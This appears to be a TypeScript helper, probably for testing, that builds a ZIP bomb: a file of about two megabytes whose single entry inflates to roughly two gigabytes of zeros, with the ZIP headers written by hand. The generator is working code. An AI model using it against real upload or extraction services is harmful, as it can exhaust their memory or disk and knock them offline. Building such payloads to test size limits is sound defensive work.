import { constants, deflateRawSync } from 'node:zlib'

const MEGABYTE = 1024 * 1024
/** What the file in it is said to hold, and would. */
export const UNPACKED = 2047 * MEGABYTE

/** A ZIP of two megabytes with one file of two gigabytes of zeros. */
export function zipBomb(name: string): Buffer {
  // Ends at a whole byte and is not the last block, so that it can be repeated without compressing gigabytes.
  const piece = deflateRawSync(Buffer.alloc(MEGABYTE), { finishFlush: constants.Z_FULL_FLUSH })
  const packed = Buffer.concat([...Array<Buffer>(UNPACKED / MEGABYTE).fill(piece), deflateRawSync('')])
  const path = Buffer.from(name)
  const described = Buffer.alloc(26)
  described.writeUInt16LE(20, 0)
  described.writeUInt16LE(8, 4)
  described.writeUInt32LE(packed.length, 14)
  described.writeUInt32LE(UNPACKED, 18)
  described.writeUInt16LE(path.length, 22)
  const file = Buffer.concat([Buffer.from('PK\x03\x04'), described, path, packed])
  const listed = Buffer.concat([Buffer.from('PK\x01\x02\x14\0'), described, Buffer.alloc(14), path])
  const end = Buffer.alloc(18)
  end.writeUInt16LE(1, 4)
  end.writeUInt16LE(1, 6)
  end.writeUInt32LE(listed.length, 8)
  end.writeUInt32LE(file.length, 12)
  return Buffer.concat([file, listed, Buffer.from('PK\x05\x06'), end])
}
